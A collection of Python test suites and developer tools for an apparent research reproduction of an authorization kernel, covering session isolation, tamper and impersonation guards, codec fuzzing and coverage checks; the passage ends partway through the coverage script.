        second = service.open_session("b").token
        assert first != second
        assert len(first) >= len("sess-") + 32  # 16 random bytes, hex

    def test_wire_clients_cannot_adopt_existing_pids(self):
        """Impersonation guard: the wire open_session always creates a
        fresh principal, even if a pid is smuggled into the payload."""
        service = NexusService()
        victim = service.kernel.create_process("victim")
        raw = {"v": "v1", "kind": "open_session",
               "payload": {"name": "evil", "pid": victim.pid}}
        response = service.dispatch_dict(raw)
        assert isinstance(response, msg.SessionResponse)
        assert response.pid != victim.pid

    def test_trusted_pid_adoption_stays_service_side(self):
        service = NexusService()
        process = service.kernel.create_process("server")
        session = service.open_session("server", pid=process.pid)
        assert session.pid == process.pid
        client = NexusClient.in_process(service)
        handle = client.adopt_session(session)
        assert handle.say("bound()").speaker == str(process.principal)

    def test_unknown_session_is_structured_error(self):
        client = NexusClient.in_process(NexusService())
        with pytest.raises(ApiError) as excinfo:
            client.call(msg.SayRequest(session="sess-999",
                                       statement="x()"),
                        msg.LabelResponse)
        assert excinfo.value.code == "E_NO_SUCH_SESSION"

    def test_closed_session_rejected(self):
        client = NexusClient.in_process(NexusService())
        session = client.open_session("alice")
        session.close()
        with pytest.raises(ApiError) as excinfo:
            session.say("x()")
        assert excinfo.value.code == "E_NO_SUCH_SESSION"

    def test_two_sessions_get_isolated_verdicts(self):
        """Two concurrent sessions with different credentials: verdicts
        must not leak across subjects, even via the decision cache."""
        client = NexusClient.in_process(NexusService())
        owner, reader, resource, bundle = _world(client)
        stranger = client.open_session("stranger")
        # Interleave the two subjects repeatedly; the reader's cached
        # allow must never surface for the stranger.
        for _ in range(3):
            assert reader.authorize("read", resource, proof=bundle).allow
            assert not stranger.authorize("read", resource,
                                          wallet=True).allow
        assert reader.stats().allowed == 3
        assert stranger.stats().denied == 3

    def test_per_session_stats_track_request_mix(self):
        client = NexusClient.in_process(NexusService())
        session = client.open_session("alice")
        session.say("a()")
        session.say("b()")
        resource = session.create_resource("/obj/mine")
        session.authorize("read", resource)
        stats = session.stats()
        assert stats.requests["say"] == 2
        assert stats.requests["create_resource"] == 1
        assert stats.allowed == 1  # owner default policy
        assert stats.errors == 0

    def test_errors_counted_per_session(self):
        client = NexusClient.in_process(NexusService())
        session = client.open_session("alice")
        with pytest.raises(ApiError) as excinfo:
            session.authorize("read", 424242)
        assert excinfo.value.code == "E_NO_SUCH_RESOURCE"
        assert session.stats().errors == 1


class TestBatchEndpoints:
    def test_authorize_batch_matches_sequential(self):
        client = NexusClient.in_process(NexusService())
        owner, reader, resource, bundle = _world(client)
        items = [("read", resource, bundle)] * 8 + [("write", resource)]
        batched = reader.authorize_batch(items)
        sequential = [
            reader.authorize(item[0], item[1],
                             proof=item[2] if len(item) > 2 else None)
            for item in items]
        assert [v.allow for v in batched] == [v.allow for v in sequential]

    def test_batch_dedups_guard_work(self):
        service = NexusService()
        client = NexusClient.in_process(service)
        owner, reader, resource, bundle = _world(client)
        upcalls_before = service.kernel.default_guard.upcalls
        verdicts = reader.authorize_batch(
            [("read", resource, bundle)] * 64)
        assert all(v.allow for v in verdicts)
        assert (service.kernel.default_guard.upcalls
                - upcalls_before) <= 1

    def test_ipc_send_batch(self):
        client = NexusClient.in_process(NexusService())
        session = client.open_session("alice")
        port = session.create_port("inbox")
        assert session.ipc_send(port.port_id, {"n": 0})
        accepted = session.ipc_send_many(port.port_id,
                                         [{"n": i} for i in range(5)])
        assert accepted == 5


# --------------------------------------------------------------------------
# transports (the shared api_world fixture runs each flow on BOTH
# transports — see tests/conftest.py — replacing the old copy-pasted
# direct+http blocks; cross-transport equality lives in
# tests/test_differential.py)
# --------------------------------------------------------------------------

def _flow_verdicts(client):
    owner, reader, resource, bundle = _world(client)
    verdicts = [reader.authorize("read", resource).allow,
                reader.authorize("read", resource, proof=bundle).allow,
                reader.authorize("read", resource, proof=bundle).allow]
    return verdicts


class TestTransports:
    def test_flow_verdicts_identical_on_every_transport(self, api_world):
        assert _flow_verdicts(api_world.client) == [False, True, True]

    def test_externalized_chain_flow(self, api_world):
        """The §2.4 story end-to-end on either transport: a label leaves
        one session as a TPM-rooted chain and re-enters another."""
        client = api_world.client
        owner = client.open_session("owner")
        reader = client.open_session("reader")
        label = owner.say("certified(reader)")
        chain = owner.externalize(label.handle)
        imported = reader.import_chain(chain)
        assert imported.speaker.startswith("TPM-")
        assert reader.prove(imported.formula)

    def test_tampered_chain_rejected(self, api_world):
        client = api_world.client
        owner = client.open_session("owner")
        reader = client.open_session("reader")
        chain = owner.externalize(owner.say("fact(1)").handle)
        chain["certs"][-1]["statement"] = \
            chain["certs"][-1]["statement"].replace("fact(1)", "fact(2)")
        with pytest.raises(ApiError) as excinfo:
            reader.import_chain(chain)
        assert excinfo.value.code == "E_SIGNATURE"

    def test_session_stats_carry_the_cache_snapshot(self, api_world):
        client = api_world.client
        session = client.open_session("probe")
        resource = session.create_resource("/obj/a")
        session.authorize("read", resource)
        stats = session.stats()
        assert stats.cache["misses"] >= 1
        assert stats.cache == client.info().cache

    def test_http_transport_counts_traffic(self):
        client = NexusClient.over_http(NexusService())
        client.info()
        transport = client.transport
        assert transport.requests_sent == 1
        assert transport.bytes_sent > 0
        assert transport.bytes_received > 0

    def test_http_error_statuses(self):
        service = NexusService()
        router = service.router()
        from repro.net.http import HTTPRequest
        # kind/path mismatch → 400
        raw = msg.InfoRequest().to_bytes()
        response = router.dispatch(
            HTTPRequest("POST", "/api/v1/authorize", {}, raw))
        assert response.status == 400
        # wrong method on a mounted path → 405 with Allow
        response = router.dispatch(HTTPRequest("GET", "/api/v1/info"))
        assert response.status == 405
        assert response.headers["Allow"] == "POST"
        # denied authorize still returns 200: denial is data, not error
        client = NexusClient.over_http(service)
        owner, reader, resource, _ = _world(client)
        assert not reader.authorize("write", resource).allow

    def test_http_not_found_resource_maps_to_404(self):
        service = NexusService()
        client = NexusClient.over_http(service)
        session = client.open_session("alice")
        request = msg.AuthorizeRequest(session=session.token,
                                       operation="read", resource=31337)
        from repro.net.http import HTTPRequest, parse_response
        transport = client.transport
        raw = HTTPRequest("POST", "/api/v1/authorize", {},
                          request.to_bytes()).to_bytes()
        response = parse_response(transport.send(raw))
        assert response.status == 404
        decoded = msg.decode_response(response.body)
        assert decoded.code == "E_NO_SUCH_RESOURCE"


# --------------------------------------------------------------------------
# app integration
# --------------------------------------------------------------------------

class TestAppIntegration:
    def test_objectstore_fast_path_via_api_session(self):
        from repro.apps.objectstore import Schema, TypedObjectStore
        schema = Schema.of(name="str", age="int")
        producer = TypedObjectStore(schema, producer="remote-jvm")
        for i in range(20):
            producer.put({"name": f"user{i}", "age": i})
        image = producer.export()

        client = NexusClient.in_process(NexusService())
        downloader = client.open_session("downloader")
        # Without the credential: slow path, every record validated.
        slow = TypedObjectStore.import_image(image, schema,
                                             session=downloader)
        assert slow.validations == 20
        # The certifier's statement arrives via the API; fast path.
        chain_owner = client.open_session("TypeCertifier")
        label = chain_owner.say("typesafe(remote-jvm)")
        imported = chain_owner.externalize(label.handle)
        downloader.import_chain(imported)
        qualified_speaker = downloader.import_chain(imported).speaker
        fast = TypedObjectStore.import_image(
            image, schema, session=downloader,
            certifier=qualified_speaker)
        assert fast.validations == 0
        assert fast.records() == slow.records()

    def test_fauxbook_stack_serves_the_api(self):
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack()
        raw = msg.InfoRequest().to_bytes()
        response = stack.request("POST", "/api/v1/info", body=raw)
        assert response.status == 200
        decoded = msg.decode_response(response.body)
        assert decoded.version == "v1"

    def test_fauxbook_unknown_method_is_405(self):
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack()
        response = stack.request("GET", "/signup")
        assert response.status == 405
        assert "POST" in response.headers.get("Allow", "")

    def test_fauxbook_exact_routes_do_not_prefix_match(self):
        """Migrating onto the Router must not widen /signup et al. into
        prefix matches."""
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack()
        assert stack.request("POST", "/signupXYZ",
                             body=b"eve:pw").status == 404
        assert stack.request("POST", "/loginXYZ",
                             body=b"eve:pw").status == 404
        assert stack.request("POST", "/api/v1/sayXYZ",
                             body=msg.InfoRequest().to_bytes()
                             ).status == 404

    def test_non_api_response_reported_as_transport_error(self):
        """A wrong mount/prefix surfaces the HTTP truth, not a decode
        failure blamed on the client's own request."""
        from repro.net.http import Router
        client = NexusClient.over_http(Router())  # nothing mounted
        with pytest.raises(ApiError) as excinfo:
            client.info()
        assert excinfo.value.code == "E_BAD_RESPONSE"
        assert "HTTP 404" in str(excinfo.value)

    def test_batch_runs_wallet_prover_once_per_distinct_goal(
            self, monkeypatch):
        service = NexusService()
        client = NexusClient.in_process(service)
        owner, reader, resource, _ = _world(client)
        # Transfer the credential into the reader's own store so its
        # wallet can discharge the goal.
        owner_store = service.kernel.default_labelstore(
            service.session(owner.token).pid)
        reader_store = service.kernel.default_labelstore(
            service.session(reader.token).pid)
        for label in list(owner_store):
            owner_store.transfer(label.handle, reader_store)
        calls = []
        original = NexusService._wallet_bundle

        def counting(self, *args, **kwargs):
            calls.append(args)
            return original(self, *args, **kwargs)

        monkeypatch.setattr(NexusService, "_wallet_bundle", counting)
        verdicts = reader.authorize_batch(
            [("read", resource, None, True)] * 32)
        assert all(v.allow for v in verdicts)
        assert len(calls) == 1  # one proof search for 32 duplicates


# --------------------------------------------------------------------------
# adversarial codec fuzzing (property-style, deterministic seed)
# --------------------------------------------------------------------------

def _random_term(rng, depth):
    from repro.nal.terms import Const, Name, SubPrincipal, Var
    choice = rng.randrange(5 if depth < 2 else 4)
    if choice == 0:
        # Names must be parser-atomic: a dotted name re-parses as a
        # SubPrincipal and a key: name as a KeyPrincipal — different
        # (if equivalent-looking) ASTs.
        return Name(rng.choice(["alice", "bob", "/proc/ipd/3",
                                "store_7"]))
    if choice == 1:
        return Const(rng.randrange(-1000, 1000))
    if choice == 2:
        return Const(rng.choice(["s", "x y", "z-9"]))
    if choice == 3:
        return Var(rng.choice(["Subject", "Resource", "X"]))
    # Subprincipal parents must themselves be principal syntax (a
    # name), or the printed form will not re-parse.
    return SubPrincipal(Name(rng.choice(["svc", "host"])),
                        rng.choice(["web", "db"]))


def _random_formula(rng, depth=0):
    from repro.nal.formula import (And, Compare, Implies, Not, Or, Pred,
                                   Says, Speaksfor, TRUE, FALSE)
    from repro.nal.terms import Name
    if depth >= 4 or rng.random() < 0.35:
        kind = rng.randrange(4)
        if kind == 0:
            return Pred(rng.choice(["ok", "mayRead", "typesafe"]),
                        tuple(_random_term(rng, depth)
                              for _ in range(rng.randrange(1, 3))))
        if kind == 1:
            return Compare(rng.choice(["<", "<=", "==", "!="]),
                           _random_term(rng, depth),
                           _random_term(rng, depth))
        if kind == 2:
            return TRUE
        return FALSE
    kind = rng.randrange(6)
    if kind == 0:
        return Says(Name(rng.choice(["A", "B", "ntp"])),
                    _random_formula(rng, depth + 1))
    if kind == 1:
        return And(_random_formula(rng, depth + 1),
                   _random_formula(rng, depth + 1))
    if kind == 2:
        return Or(_random_formula(rng, depth + 1),
                  _random_formula(rng, depth + 1))
    if kind == 3:
        return Implies(_random_formula(rng, depth + 1),
                       _random_formula(rng, depth + 1))
    if kind == 4:
        return Not(_random_formula(rng, depth + 1))
    return Speaksfor(Name("A"), Name("B"))


def _random_proof(rng, depth=0):
    from repro.nal.parser import parse_principal
    conclusion = _random_formula(rng)
    if depth >= 3 or rng.random() < 0.4:
        kind = rng.randrange(3)
        if kind == 0:
            return Assume(conclusion)
        if kind == 1:
            return Axiom(conclusion)
        return AuthorityQuery(conclusion, rng.choice(["ntp", "rev"]))
    context = (parse_principal("A") if rng.random() < 0.3 else None)
    return Rule(rng.choice(["and_intro", "says_intro", "custom-rule"]),
                tuple(_random_proof(rng, depth + 1)
                      for _ in range(rng.randrange(1, 3))),
                conclusion, context=context)


class TestCodecFuzz:
    """Encode→decode→encode must be a fixpoint; mutations must reject."""

    def test_formula_text_roundtrip_fixpoint(self):
        import random
        rng = random.Random(20260726)
        for _ in range(200):
            formula = _random_formula(rng)
            encoded = codec.encode_formula(formula)
            decoded = codec.decode_formula(encoded)
            assert decoded == formula
            assert codec.encode_formula(decoded) == encoded

    def test_proof_document_roundtrip_fixpoint(self):
        import random
        rng = random.Random(42)
        for _ in range(100):
            proof = _random_proof(rng)
            encoded = codec.encode_proof(proof)
            # through real JSON bytes, like the wire
            rehydrated = json.loads(json.dumps(encoded))
            decoded = codec.decode_proof(rehydrated)
            assert decoded == proof
            assert codec.encode_proof(decoded) == encoded

    def test_bundle_roundtrip_fixpoint(self):
        import random
        rng = random.Random(7)
        for _ in range(50):
            credentials = tuple(_random_formula(rng)
                                for _ in range(rng.randrange(0, 4)))
            bundle = ProofBundle(_random_proof(rng),
                                 credentials=credentials)
            encoded = codec.encode_bundle(bundle)
            decoded = codec.decode_bundle(json.loads(json.dumps(encoded)))
            assert decoded == bundle
            assert codec.encode_bundle(decoded) == encoded

    def test_truncated_request_bytes_rejected(self):
        import random
        rng = random.Random(99)
        for request in SAMPLE_REQUESTS:
            raw = request.to_bytes()
            cut = rng.randrange(1, len(raw))
            with pytest.raises(ApiError) as excinfo:
                msg.decode_request(raw[:cut])
            assert excinfo.value.code in ("E_BAD_REQUEST",
                                          "E_BAD_VERSION",
                                          "E_UNKNOWN_KIND")

    def test_mistyped_payload_fields_rejected(self):
        import random
        rng = random.Random(5)
        mutants = [None, True, 3.5, [], {"zz": 1}]
        rejected = 0
        for request in SAMPLE_REQUESTS:
            document = request.to_dict()
            payload = document.get("payload", {})
            for field in payload:
                mutated = json.loads(json.dumps(document))
                original = payload[field]
                mutant = rng.choice(
                    [m for m in mutants if type(m) is not type(original)])
                mutated["payload"][field] = mutant
                try:
                    decoded = msg.decode_request(mutated)
                except ApiError as exc:
                    assert exc.code == "E_BAD_REQUEST"
                    rejected += 1
                else:
                    # Only genuinely optional-or-Any fields may survive.
                    assert decoded.to_dict()["v"] == "v1"
        assert rejected >= 30

    def test_mutated_proof_documents_rejected_or_equal(self):
        import random
        rng = random.Random(11)
        proof = _random_proof(rng)
        encoded = json.loads(json.dumps(codec.encode_proof(proof)))
        # Damage the node kinds and structural fields.
        for mutant in [
            {**encoded, "node": "warp"},
            {**encoded, "node": 7},
            {**encoded, "conclusion": "says says"},
            {**encoded, "conclusion": None},
            {**encoded, "conclusion": ["A says b"]},
        ]:
            with pytest.raises(ApiError):
                codec.decode_proof(mutant)


# --------------------------------------------------------------------------
# discovery and observability endpoints
# --------------------------------------------------------------------------

class TestDiscoveryAndCounters:
    def test_index_lists_every_handler_kind(self):
        client = NexusClient.in_process(NexusService())
        index = client.index()
        assert index.version == "v1"
        assert set(index.endpoints) == set(msg.REQUEST_TYPES)
        assert "policy/apply" in index.endpoints

    def test_index_served_as_get_on_the_mount_root(self):
        from repro.net.http import HTTPRequest, parse_request
        service = NexusService()
        router = service.router()
        for path in ("/api/v1/", "/api/v1"):
            raw = HTTPRequest("GET", path, {}, b"").to_bytes()
            response = router.dispatch(parse_request(raw))
            assert response.status == 200
            decoded = msg.decode_response(response.body)
            assert isinstance(decoded, msg.IndexResponse)
            assert set(decoded.endpoints) == set(msg.REQUEST_TYPES)

    def test_info_exposes_decision_cache_counters(self):
        service = NexusService()
        client = NexusClient.in_process(service)
        session = client.open_session("probe")
        resource = session.create_resource("/obj/a")
        session.authorize("read", resource)
        session.authorize("read", resource)
        cache = client.info().cache
        for key in ("hits", "misses", "hit_rate", "insertions",
                    "goal_invalidations", "policy_epoch_bumps",
                    "policy_epoch", "shards"):
            assert key in cache
        report = service.kernel.decision_cache.stats.report()
        assert cache["hits"] == report["hits"] >= 1
        assert cache["policy_epoch"] == \
            service.kernel.decision_cache.policy_epoch

    def test_epoch_counters_move_with_policy_applies(self):
        from repro.policy import PolicyRule, PolicySet, Selector
        client = NexusClient.in_process(NexusService())
        admin = client.open_session("admin")
        admin.create_resource("/files/a", "file")
        admin.put_policy(PolicySet(name="p", rules=(
            PolicyRule(Selector(prefix="/files/"), ("read",), "true"),)))
        before = client.info().cache["goal_invalidations"]
        admin.apply_policy("p")
        assert client.info().cache["goal_invalidations"] == before + 1
