"""Property-based tests for the system-wide invariants in DESIGN.md §4.

Each test class targets one numbered invariant; hypothesis drives the
schedules and inputs.
"""

import pytest
from hypothesis import assume, given, settings, strategies as st

from repro.apps.fauxbook.cobuf import CobufSpace
from repro.apps.fauxbook.framework import SocialGraph
from repro.errors import CobufError, ProofError
from repro.kernel import NexusKernel
from repro.kernel.decision_cache import DecisionCache
from repro.kernel.scheduler import ProportionalShareScheduler
from repro.nal import Assume, ProofBundle, check, parse, prove
from repro.nal.prover import Prover


# ---------------------------------------------------------------------------
# Invariant 1: label attribution is unforgeable through `say`
# ---------------------------------------------------------------------------

@given(st.text(alphabet="abcdefgh", min_size=1, max_size=8),
       st.integers(min_value=0, max_value=3))
@settings(max_examples=30, deadline=None)
def test_say_always_attributes_to_caller(pred, which):
    kernel = NexusKernel()
    processes = [kernel.create_process(f"p{i}") for i in range(4)]
    caller = processes[which]
    label = kernel.sys_say(caller.pid, f"{pred}(x)")
    assert label.speaker == caller.principal
    # No other process's store gained the label.
    for process in processes:
        store = kernel.default_labelstore(process.pid)
        found = store.find(label.formula)
        assert (found is not None) == (process is caller)


# ---------------------------------------------------------------------------
# Invariant 4: cache transparency under arbitrary op interleavings
# ---------------------------------------------------------------------------

_ops = st.lists(
    st.tuples(st.sampled_from(["authorize", "setgoal", "set_proof",
                               "clear_proof"]),
              st.integers(0, 1)),
    min_size=1, max_size=12)


@given(_ops)
@settings(max_examples=40, deadline=None)
def test_decision_cache_transparency(schedule):
    """Running any schedule of authorizes/goal-changes/proof-changes with
    the cache on and off yields identical decision sequences."""
    def run(enabled):
        kernel = NexusKernel()
        kernel.decision_cache.enabled = enabled
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/prop/obj", "file",
                                           owner.principal)
        cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        goals = [f"{owner.path} says ok(?Subject)",
                 f"{owner.path} says never(?Subject)"]
        decisions = []
        for op, arg in schedule:
            if op == "authorize":
                decision = kernel.authorize(client.pid, "read",
                                            resource.resource_id)
                decisions.append(decision.allow)
            elif op == "setgoal":
                kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                   goals[arg])
            elif op == "set_proof":
                kernel.sys_set_proof(client.pid, "read",
                                     resource.resource_id, bundle)
            elif op == "clear_proof":
                kernel.sys_clear_proof(client.pid, "read",
                                       resource.resource_id)
        return decisions

    assert run(True) == run(False)


@given(st.lists(st.tuples(st.integers(0, 5), st.sampled_from(["read",
                                                              "write"]),
                          st.integers(0, 5), st.booleans()),
                min_size=1, max_size=40),
       st.integers(1, 128))
@settings(max_examples=50, deadline=None)
def test_decision_cache_never_lies(entries, subregions):
    """Whatever is inserted, a lookup returns either None or the exact
    decision most recently inserted for that tuple."""
    cache = DecisionCache(subregions=subregions)
    shadow = {}
    for subject, op, obj, decision in entries:
        cache.insert(subject, op, obj, decision)
        shadow[(subject, op, obj)] = decision
    for (subject, op, obj), decision in shadow.items():
        cached = cache.lookup(subject, op, obj)
        assert cached is None or cached == decision


# ---------------------------------------------------------------------------
# Invariant 3 + 5: checker soundness and cacheability conservatism
# ---------------------------------------------------------------------------

_atom_names = st.sampled_from(["p", "q", "r", "s"])
_speakers = st.sampled_from(["A", "B", "C"])


@given(st.lists(st.tuples(_speakers, _atom_names), min_size=1, max_size=5),
       _speakers, _atom_names)
@settings(max_examples=80, deadline=None)
def test_prover_checker_agreement(pool_spec, goal_speaker, goal_atom):
    pool = [parse(f"{s} says {a}") for s, a in pool_spec]
    goal = parse(f"{goal_speaker} says {goal_atom}")
    try:
        proof = prove(goal, pool)
    except ProofError:
        # Incompleteness is allowed; unsoundness is not. If the exact
        # credential is present the prover must find it.
        assert goal not in pool
        return
    result = check(proof, goal)
    assert set(result.assumptions) <= set(pool)
    assert result.cacheable  # static atoms only: must stay cacheable


@given(st.integers(1, 6))
@settings(max_examples=20, deadline=None)
def test_dynamic_terms_always_poison_cacheability(bound):
    goal = parse(f"A says TimeNow < {bound}")
    proof = prove(goal, [goal])
    assert not check(proof, goal).cacheable


# ---------------------------------------------------------------------------
# Invariant 8: cobuf opacity under arbitrary operation sequences
# ---------------------------------------------------------------------------

@given(st.lists(st.sampled_from(["slice", "concat", "collate-friend",
                                 "collate-stranger"]),
                min_size=1, max_size=10),
       st.binary(min_size=1, max_size=40))
@settings(max_examples=50, deadline=None)
def test_cobuf_pipeline_never_leaks(ops, payload):
    graph = SocialGraph()
    for user in ("alice", "bob", "carol"):
        graph.add_user(user)
    graph.add_edge("alice", "bob")
    space = CobufSpace(speaks_for=graph.speaks_for)
    current = space.tag(payload, "alice")
    for op in ops:
        if op == "slice" and len(current) > 1:
            current = current.slice(0, len(current) - 1)
        elif op == "concat":
            current = current.concat(space.tag(b"x", current.owner))
        elif op == "collate-friend":
            if current.owner == "alice":
                current = space.collate("bob", [current])
        elif op == "collate-stranger":
            if current.owner != "carol":
                with pytest.raises(CobufError):
                    space.collate("carol", [current])
    # Whatever happened, contents stayed opaque to tenants.
    with pytest.raises(CobufError):
        bytes(current)
    with pytest.raises(CobufError):
        _ = current.data


# ---------------------------------------------------------------------------
# Scheduler: proportional share under arbitrary weights
# ---------------------------------------------------------------------------

@given(st.dictionaries(st.sampled_from(["a", "b", "c", "d"]),
                       st.integers(1, 50), min_size=2, max_size=4))
@settings(max_examples=30, deadline=None)
def test_stride_scheduler_proportionality(weights):
    scheduler = ProportionalShareScheduler()
    for name, tickets in weights.items():
        scheduler.add_client(name, tickets)
    ticks = 3000
    scheduler.run(ticks)
    total = sum(weights.values())
    for name, tickets in weights.items():
        expected = tickets / total
        measured = scheduler.share_of(name)
        assert abs(measured - expected) < 0.05


@given(st.lists(st.sampled_from(["a", "b"]), min_size=0, max_size=6))
@settings(max_examples=20, deadline=None)
def test_scheduler_total_conservation(removals):
    scheduler = ProportionalShareScheduler()
    scheduler.add_client("a", 10)
    scheduler.add_client("b", 20)
    scheduler.run(100)
    delivered = sum(c.ticks_received for c in scheduler.clients())
    assert delivered == scheduler.total_ticks == 100


# ---------------------------------------------------------------------------
# NAL substitution: structural properties
# ---------------------------------------------------------------------------

@given(st.sampled_from(["?X says p", "?X speaksfor B",
                        "p(?X) and q(?X)", "not r(?X)",
                        "?X says (p implies q(?X))"]),
       st.sampled_from(["A", "kernel.proc", "/proc/ipd/9"]))
@settings(max_examples=40, deadline=None)
def test_substitution_grounds_all_variables(pattern, name):
    from repro.nal import Var, parse_principal
    formula = parse(pattern)
    bound = formula.substitute({Var("X"): parse_principal(name)})
    assert bound.is_ground()
    # Substitution is idempotent once ground.
    assert bound.substitute({Var("X"): parse_principal("Z")}) == bound
