#!/usr/bin/env python
"""Assert a benchmark artifact carries a named row above a floor.

Usage::

    python tools/check_bench_row.py BENCH_iam.json \
        "incremental recompile ratio" --min 1.0

Exits non-zero (with a one-line diagnosis) when the artifact is
missing, the row is absent, or its value does not clear ``--min``.
``make bench-iam`` uses this to prove the smoke run really produced
the incremental-compilation row — a benchmark that silently stopped
emitting it would otherwise keep passing.
"""

import argparse
import json
import sys
from pathlib import Path


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("artifact", type=Path,
                        help="BENCH_*.json file to inspect")
    parser.add_argument("label", help="row label that must be present")
    parser.add_argument("--min", type=float, default=None,
                        dest="floor", metavar="VALUE",
                        help="the row's value must be strictly greater")
    args = parser.parse_args(argv)

    if not args.artifact.exists():
        print(f"check_bench_row: {args.artifact} does not exist "
              "(run the benchmark first)", file=sys.stderr)
        return 1
    document = json.loads(args.artifact.read_text())
    rows = {row["label"]: row for row in document.get("rows", ())}
    row = rows.get(args.label)
    if row is None:
        print(f"check_bench_row: no row {args.label!r} in "
              f"{args.artifact} (has: {', '.join(sorted(rows))})",
              file=sys.stderr)
        return 1
    value = row["value"]
    if args.floor is not None and not value > args.floor:
        print(f"check_bench_row: {args.label!r} = {value} is not "
              f"> {args.floor} in {args.artifact}", file=sys.stderr)
        return 1
    unit = row.get("unit", "")
    print(f"check_bench_row: {args.label} = {value:g} {unit} ok"
          + (f" (> {args.floor:g})" if args.floor is not None else ""))
    return 0


if __name__ == "__main__":
    sys.exit(main())
