#!/usr/bin/env python3
"""Execute every fenced ``python`` code block in the given Markdown files.

The docs promise runnable snippets; this keeps them honest. Each block
runs in its own subprocess with ``src/`` on PYTHONPATH, so a snippet
cannot leak state into the next and import errors point at the exact
block. Exit status is non-zero if any block fails.

Usage: python tools/check_docs.py README.md docs/*.md
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent

_BLOCK_RE = re.compile(r"^```python\n(.*?)^```", re.MULTILINE | re.DOTALL)


def python_blocks(text: str):
    """Yield (line_number, source) for each fenced python block."""
    for match in _BLOCK_RE.finditer(text):
        line = text[:match.start()].count("\n") + 2  # first code line
        yield line, match.group(1)


def run_block(path: Path, line: int, source: str) -> bool:
    env = dict(os.environ)
    src = str(REPO_ROOT / "src")
    env["PYTHONPATH"] = src + (
        os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    proc = subprocess.run([sys.executable, "-"], input=source,
                          text=True, capture_output=True, env=env,
                          cwd=REPO_ROOT)
    if proc.returncode != 0:
        print(f"FAIL {path}:{line}")
        print(proc.stderr or proc.stdout)
        return False
    print(f"ok   {path}:{line}")
    return True


def main(argv) -> int:
    if not argv:
        print(__doc__)
        return 2
    failures = 0
    blocks = 0
    for name in argv:
        path = Path(name)
        for line, source in python_blocks(path.read_text()):
            blocks += 1
            if not run_block(path, line, source):
                failures += 1
    print(f"{blocks - failures}/{blocks} doc snippets passed")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
