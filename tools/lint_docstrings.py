#!/usr/bin/env python3
"""Docstring coverage gate for the trusted packages.

Fails (exit 1) when any module under the given directories is missing a
module docstring, or when a *public* top-level class or function lacks
one. The TCB must stay reviewable: code a security argument rests on
does not get to be undocumented.

Usage: python tools/lint_docstrings.py src/repro/kernel src/repro/nal
"""

from __future__ import annotations

import ast
import sys
from pathlib import Path


def missing_docstrings(path: Path):
    """Yield human-readable locations of missing docstrings in one file."""
    tree = ast.parse(path.read_text(), filename=str(path))
    if ast.get_docstring(tree) is None:
        yield f"{path}: missing module docstring"
    for node in tree.body:
        if not isinstance(node, (ast.ClassDef, ast.FunctionDef,
                                 ast.AsyncFunctionDef)):
            continue
        if node.name.startswith("_"):
            continue
        if ast.get_docstring(node) is None:
            kind = "class" if isinstance(node, ast.ClassDef) else "function"
            yield (f"{path}:{node.lineno}: public {kind} "
                   f"{node.name!r} has no docstring")


def main(argv) -> int:
    if not argv:
        print(__doc__)
        return 2
    problems = []
    checked = 0
    for root in argv:
        for path in sorted(Path(root).rglob("*.py")):
            checked += 1
            problems.extend(missing_docstrings(path))
    for problem in problems:
        print(problem)
    print(f"{checked} modules checked, {len(problems)} problems")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
