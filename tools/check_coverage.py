#!/usr/bin/env python3
"""Line-coverage floor for selected packages, stdlib only.

The container ships no ``coverage``/``pytest-cov``, so this tool traces
the interpreter itself: ``sys.settrace`` records every executed line in
files under the target directories while the given pytest selection
runs, executable lines are recovered from the compiled code objects
(``co_lines``), and the run fails unless the covered/executable ratio
meets the floor.

Usage:
    python tools/check_coverage.py --target src/repro/federation \\
        --floor 85 -- -q tests/test_federation.py
"""

from __future__ import annotations

import argparse
import sys
import threading
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent


def executable_lines(path: Path) -> set:
    """Every line number the compiler marks executable in one file."""
    code = compile(path.read_text(), str(path), "exec")
    lines = set()
    stack = [code]
    while stack:
        current = stack.pop()
        # line 0 is the compiler's implicit module prologue, not code.
        lines.update(line for _, _, line in current.co_lines() if line)
        stack.extend(const for const in current.co_consts
                     if hasattr(const, "co_lines"))
    return lines


def run_traced(prefixes, pytest_args):
    """Run pytest under a line tracer restricted to the prefixes."""
    import pytest

    hits = {}

    def local_tracer(frame, event, _arg):
        if event == "line":
            hits.setdefault(frame.f_code.co_filename,
                            set()).add(frame.f_lineno)
        return local_tracer

    def global_tracer(frame, event, _arg):
        if event == "call" and frame.f_code.co_filename.startswith(
                prefixes):
            return local_tracer
        return None

    threading.settrace(global_tracer)
    sys.settrace(global_tracer)
    try:
        exit_code = pytest.main(list(pytest_args))
    finally:
        sys.settrace(None)
        threading.settrace(None)
    return exit_code, hits


def main(argv) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", action="append", required=True,
                        help="directory whose .py files must be covered")
    parser.add_argument("--floor", type=float, default=85.0,
                        help="minimum total line coverage percent")
    parser.add_argument("pytest_args", nargs="*",
                        help="arguments handed to pytest (after --)")
    args = parser.parse_args(argv)

    targets = [Path(t).resolve() for t in args.target]
    prefixes = tuple(str(t) for t in targets)
    exit_code, hits = run_traced(prefixes, args.pytest_args)
    if exit_code != 0:
        print(f"pytest failed (exit {exit_code}); coverage not evaluated")
        return exit_code

    total_executable = 0
    total_hit = 0
    print(f"\nline coverage (floor {args.floor:.0f}%):")
    for target in targets:
        for path in sorted(target.rglob("*.py")):
            must = executable_lines(path)
            got = hits.get(str(path), set()) & must
            total_executable += len(must)
            total_hit += len(got)
            pct = 100.0 * len(got) / len(must) if must else 100.0
            rel = path.relative_to(REPO_ROOT)
            print(f"  {rel}: {pct:5.1f}% ({len(got)}/{len(must)})")
            missed = sorted(must - got)
